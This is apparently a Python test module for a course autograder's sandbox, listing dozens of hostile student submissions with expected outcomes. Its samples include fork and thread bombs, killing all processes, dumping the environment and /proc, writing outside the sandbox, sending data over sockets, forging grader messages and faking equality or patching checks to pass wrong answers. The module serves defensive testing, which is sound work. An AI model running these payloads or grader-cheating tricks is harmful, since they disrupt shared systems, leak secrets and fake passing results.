"""Submissions to the practice assignment that attack the grader. Each declares beforehand what it must get."""

from __future__ import annotations

from practice import WRONG, answers
from submissions_broken import ERROR, NO_Q2, NOTHING, TIMEOUT, Submission, handed_in, in_q2

YES = """class Yes:
    def __eq__(self, other): return True
    def __call__(self, *a, **k): return self
    def __getattr__(self, name): return self
    def __bool__(self): return True
    def __float__(self): return 1.0
    def __array__(self, *a, **k): return np.ones(2)
    __ne__ = __lt__ = __le__ = __gt__ = __ge__ = __abs__ = __sub__ = __rsub__ = __getitem__ = __call__
    __hash__ = object.__hash__"""
KILL_ALL = """import os
for pid in range(1, 99):
    if pid != os.getpid():
        try: os.kill(pid, 9)
        except OSError: pass"""
THREADS = """import threading, time
while True: threading.Thread(target=time.sleep, args=(99,), daemon=True).start()"""
SECRET = "gr4d3r5-t0k3n"  # stands in the environment of the grader
PROC = """import os
print(dict(os.environ))
for pid in filter(str.isdigit, os.listdir("/proc")):
    for name in ("environ", "cmdline", "maps"):
        try: print(pid, name, open(f"/proc/{pid}/{name}", "rb").read(99_999))
        except OSError: pass
    for name in ("root", "cwd", "fd"):
        try: print(os.listdir(f"/proc/{pid}/{name}"))
        except OSError: pass
try: open("/proc/1/mem", "rb")
except OSError: print("no memory of others")"""
CALLS = """import ctypes, socket
c = ctypes.CDLL(None)
done = [c.ptrace(0, 0, 0, 0), c.unshare(0x10000000), c.memfd_create(b"x", 0), c.shmget(0, 4096, 0o1777)]
for family in (17, 38, 40):  # packets, the kernel's ciphers, the machine outside of a virtual machine
    try: done.append(socket.socket(family, socket.SOCK_STREAM).close())
    except OSError: done.append(-1)
print(set(done))"""
SHARED = """import mmap, time
memory = mmap.mmap(-1, 5 * 2**29)
for _ in range(40): memory.write(bytes(2**26))
time.sleep(5)"""
EXIT = """class Mute(Exception):
    def __str__(self): raise SystemExit
raise Mute"""
INHERITED = """import os
for number in range(3, 64):
    try: os.read(number, 10)
    except OSError: pass"""
MODULES = """import sys, types
class Fake(types.ModuleType):
    def __getattr__(self, name): return lambda *a, **k: True
for name in ("numpy", "json", "msgspec", "struct", "course_utils.homework.wire"): sys.modules[name] = Fake(name)
class Nothing:
    def find_spec(self, *a): raise ImportError("no")
sys.meta_path.insert(0, Nothing())"""
TRACE = """import sys, threading
def trace(frame, event, arg):
    for name in ("value", "answer", "result"):
        if name in frame.f_locals: frame.f_locals[name] = 6
    return trace
sys.settrace(trace); sys.setprofile(trace); threading.settrace(trace)"""
CHANGES = """import threading, time
def change():
    while True:
        for number in (6, 7.0):  # no moment is right; two moments are, the kind from one and the number from the other
            get_ipython().user_ns["dimension"] = number
            time.sleep(0.0001)
threading.Thread(target=change, daemon=True).start()"""
WRITES = """import atexit, gc, msgspec, os, struct, weakref
def write(*_):
    frame = msgspec.msgpack.encode({"value": 6})
    for number in range(3, 64):
        try: os.write(number, struct.pack(">I", len(frame)) + frame)
        except OSError: pass
gc.callbacks.append(write)
gc.set_threshold(1)
atexit.register(write)
class Object: pass
weakref.finalize(Object(), write)"""
NAMES = """class Names(dict):
    def __contains__(self, name): return True
    def __getitem__(self, name): return 6 if name == "scale" else dict.__getitem__(self, name)
get_ipython().user_ns = Names(get_ipython().user_ns)"""
LIARS = {
    "q1": """class Number(int):
    def __eq__(self, other): return True
    def __int__(self): return 6
    __index__ = __int__
def scale(values, factor): return Number(1)""",
    "q2": """class Array(np.ndarray):
    __array_ufunc__ = None
    def __array__(self, *a, **k): return np.ones(2)
    def __eq__(self, other): return np.ones(np.shape(other), bool)
def normalise(vector): return np.zeros(2).view(Array)""",
    "q3": """class Meta(type):
    __instancecheck__ = __subclasscheck__ = lambda *_: True
class Dimension(metaclass=Meta):
    __class__ = int
dimension = Dimension()""",
}
PRETENDS = """class Pretends:
    __class__ = dict
def normalise(vector): return Pretends()"""
LIMITS = """import resource
for what in (resource.RLIMIT_CPU, resource.RLIMIT_AS, resource.RLIMIT_NPROC, resource.RLIMIT_FSIZE):
    try: resource.setrlimit(what, (-1, -1)); print("raised")
    except (OSError, ValueError): print("kept")"""
SEARCH = """import os
found = []
for folder, inner, files in os.walk("/"):
    inner[:] = [name for name in inner if name not in ("proc", "usr", "lib", "site-packages")]
    found += [f for f in files if f.startswith(("gradebook.db", "practice")) or f.endswith(".ipynb")]
print("found", found)"""


def hostile(port: int, outside: str) -> list[Submission]:
    """Work that attacks the grader.

    Args:
        port: where a server of the test's listens on this machine.
        outside: a folder of the test's, which no submission may see.
    """
    loop = "while True:\n    pass"
    ignoring = "import signal\nfor s in (2, 15): signal.signal(s, signal.SIG_IGN)\n" + loop
    catching = "while True:\n    try:\n        while True: pass\n    except BaseException: pass"
    tries = f"""import os
for place in ({outside!r}, "/", "/usr", "/etc", "/course", "/course/course_utils", np.__path__[0], "/dev", "/proc"):
    try:
        open(os.path.join(place, "trace"), "w").write("here")
        print("wrote", place)
    except OSError:
        pass
print("tried")"""
    network = f"""import socket
for address in (("127.0.0.1", {port}), ("1.1.1.1", 53)):
    try:
        socket.create_connection(address, 1).sendall(b"grades")
        print("sent")
    except OSError:
        print("refused")"""
    forge = """import os, struct, msgspec
frame = msgspec.msgpack.encode({"value": 7})
for number in range(3, 64):
    try: os.write(number, struct.pack(">I", len(frame)) + frame)
    except OSError: pass"""
    patch = """import builtins, sys, course_utils.homework.wire as wire
np.allclose = np.array_equal = lambda *a, **k: True
builtins.abs = lambda value: 0
np.linalg.norm = lambda *a: 1
sys.settrace(None)
AssertionError = Exception"""
    wrong = {"q1": "def scale(values, factor):\n    return 1", "q2": WRONG, "q3": "dimension = 8"}
    six = """import course_utils.homework.wire as wire
pack = wire.pack
wire.pack = lambda message, refer: pack(message | {"value": 6} if "value" in message else message, refer)"""
    pickle = """class Forged:
    def __reduce__(self): return (print, ("unpickled",))
def scale(*_): return Forged()
def normalise(*_): return np.array([Forged()], dtype=object)
dimension = Forged()"""
    daemon = """import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        time.sleep(9753)
    os._exit(0)"""
    frames = """import sys
for frame in sys._current_frames().values():
    while frame:
        print(sorted(frame.f_locals)); frame = frame.f_back"""
    return [
        handed_in("endless function", answers(q2=in_q2(loop)), NO_Q2, TIMEOUT),
        handed_in("endless cell", answers(extra=loop), (2, 3, 1), TIMEOUT),
        handed_in("ignores SIGINT", answers(extra=ignoring), (2, 3, 1), TIMEOUT),
        handed_in("catches everything", answers(q2=in_q2(catching)), NO_Q2, TIMEOUT),
        handed_in(
            "endless result", answers(q2=in_q2("while True: yield vector")), NO_Q2, ("timeout", "error", "graded")
        ),
        handed_in("8 GB", answers(q2=in_q2("np.ones(2**30)")), NO_Q2),
        handed_in(
            "8 GB in pieces",
            answers(extra="hoard = []\nwhile True: hoard.append(bytearray(2**26))"),
            (2, 3, 1),
            ("graded", "error", "timeout"),
        ),
        handed_in("always true", answers(f"{YES}\nscale = normalise = Yes()", "pass", "dimension = Yes()"), NOTHING),
        handed_in("patches asserts", answers(**wrong, extra=patch), NOTHING),
        handed_in("patches the wire", answers(**wrong, extra=six), NOTHING),
        handed_in("forges answers", answers(**wrong, extra=forge), NOTHING, ("graded", "error")),
        handed_in("looks for tests", answers(**wrong, extra=SEARCH), NOTHING, shows="found []"),
        handed_in("looks at frames", answers(**wrong, extra=frames), NOTHING),
        handed_in("runs the solution", answers(**wrong, extra="%run practice.ipynb"), NOTHING),
        handed_in("writes outside", answers(extra=tries), shows="tried"),
        handed_in("SIGKILL", answers(q2=in_q2("import os\nos.kill(os.getpid(), 9)")), NO_Q2, ERROR),
        handed_in("reads environment and processes", answers(extra=PROC), shows="no memory of others"),
        handed_in("refused calls", answers(extra=CALLS), shows="{-1}"),
        handed_in("fills shared memory", answers(extra=SHARED), (2, 3, 1), ("error", "timeout")),
        handed_in("reads the pipe", answers(extra=INHERITED), (2, 3, 1), TIMEOUT),
        handed_in(
            "kills all",
            answers(extra=KILL_ALL),
        ),
        handed_in("os._exit", answers(extra="import os\nos._exit(0)"), (2, 3, 1), ERROR),
        handed_in("os._exit in a function", answers(q2=in_q2("import os\nos._exit(0)")), NO_Q2, ERROR),
        handed_in("sys.exit", answers(extra="import sys\nsys.exit()")),
        handed_in("sys.exit in a function", answers(q2=in_q2("import sys\nsys.exit()")), NO_Q2),
        handed_in("closes the pipe", answers(extra="import os\nos.closerange(0, 256)"), (2, 3, 1), ERROR),
        handed_in("an error without a text", answers(q2=in_q2(EXIT)), NO_Q2),
        handed_in("crash", answers(extra="import ctypes\nctypes.string_at(0)"), (2, 3, 1), ERROR),
        handed_in("prints 50 MB", answers(extra="for _ in range(500): print('x' * 100_000)"), shows="cut off"),
        handed_in("prints without end", answers(extra="while True: print('x' * 100_000)"), (2, 3, 1), TIMEOUT),
        handed_in(
            "fills the disk",
            answers(extra="import tempfile\nfor n in range(99): open(tempfile.mkstemp()[1], 'wb').write(bytes(2**25))"),
            shows="OSError",
        ),
        handed_in(
            "fork bomb", answers(extra="import os\nwhile True: os.fork()"), (2, 3, 1), ("graded", "error", "timeout")
        ),
        handed_in("thread bomb", answers(extra=THREADS), (2, 3, 1), ("graded", "timeout")),
        handed_in("daemon", answers(extra=daemon)),
        handed_in("network", answers(extra=network), shows="refused\nrefused"),
        handed_in("pickle", answers(pickle, "pass", "pass"), NOTHING),
        handed_in("huge result", answers(q2=in_q2("return np.zeros(10**8)")), NO_Q2),
        handed_in(
            "deep result", answers(q2=in_q2("deep = []\nfor _ in range(99_999): deep = [deep]\nreturn deep")), NO_Q2
        ),
        handed_in("replaces modules", answers(**wrong, extra=MODULES), NOTHING, ("graded", "error")),
        handed_in("traces every call", answers(**wrong, extra=TRACE), NOTHING, ("graded", "error")),
        handed_in("changes a name all the time", answers(**wrong, extra=CHANGES), NOTHING),
        handed_in("answers at every collection", answers(**wrong, extra=WRITES), NOTHING, ("graded", "error")),
        handed_in("names that are others", answers(**wrong, extra=NAMES), NOTHING),
        handed_in("kinds that lie", answers(**LIARS), NOTHING),
        handed_in("says it is a dict", answers(q2=PRETENDS), NO_Q2),
        handed_in("raises its limits", answers(extra=LIMITS), shows="kept\nkept\nkept\nkept"),
        handed_in(
            "markup", answers(extra="from IPython.display import HTML\ndisplay(HTML('<script>alert(1)</script>'))")
        ),
    ]
